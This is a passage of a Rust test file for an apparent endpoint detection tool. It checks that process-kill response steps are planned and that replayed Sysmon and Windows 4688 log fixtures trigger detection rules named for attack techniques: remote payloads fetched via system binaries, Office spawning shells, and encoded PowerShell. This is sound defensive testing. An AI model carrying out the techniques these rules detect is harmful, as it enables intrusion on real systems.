    for (event, pid) in [("padded-1", "7001"), ("padded-2", "7002")] {
        let kill = lines
            .iter()
            .find(|l| l["event_id"] == event && l["step"] == "kill-powershell")
            .unwrap_or_else(|| panic!("no kill step for {event}: {lines:?}"));
        assert_eq!(kill["target"], pid);
        assert!(
            ["planned", "queued"].contains(&kill["status"].as_str().unwrap_or_default()),
            "{kill}"
        );
    }
}

/// What Winlogbeat and Elastic Agent ship for Sysmon and for Security 4688 runs through the
/// shipped rules: a 4688 without any ECS mapping used to be rejected (no `event.category`), and
/// Sysmon's own fields under `winlog.event_data` were never read.
#[test]
fn winlogbeat_sysmon_and_security_4688_reach_the_rules() {
    let fired = |fixture: &str| -> Vec<String> {
        let out = palisade(&["replay", "--events", fixture], &repo());
        assert_success(&out);
        assert!(
            !stderr(&out).contains("rejected a message"),
            "{fixture}: {}",
            stderr(&out)
        );
        json_lines(&stdout(&out))
            .iter()
            .filter(|l| l["kind"] == "detection" && l["stage"] == "rule")
            .map(|l| l["rule"].as_str().unwrap_or_default().to_string())
            .collect()
    };
    let security = fired("tests/fixtures/winlogbeat-security-4688.jsonl");
    assert_eq!(
        security
            .iter()
            .filter(|r| *r == "lolbin-remote-payload")
            .count(),
        2,
        "both the ECS-mapped and the plain 4688 fire: {security:?}"
    );
    let sysmon = fired("tests/fixtures/winlogbeat-sysmon.jsonl");
    for rule in ["office-spawns-shell", "encoded-powershell"] {
        assert!(sysmon.iter().any(|r| r == rule), "{rule} in {sysmon:?}");
    }
    // The Elastic Agent documents are accepted, whatever the shipped rules make of them.
    fired("tests/fixtures/elastic-agent-sysmon.jsonl");
}
